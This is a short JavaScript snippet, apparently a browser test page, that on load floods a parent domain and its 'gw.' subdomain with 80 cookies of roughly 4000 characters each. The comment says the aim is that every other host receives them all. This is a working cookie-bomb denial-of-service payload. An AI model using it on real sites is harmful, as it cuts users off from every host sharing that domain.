// Fills the browser with cookies for the whole county, so that every other host gets them all.
addEventListener("load", () => {
  const large = "x".repeat(4000);
  for (const domain of [county, `gw.${county}`]) {
    for (let number = 0; number < 80; number++) document.cookie = `bomb${number}=${large}; domain=${domain}; path=/`;
  }
  document.title = "done";
});
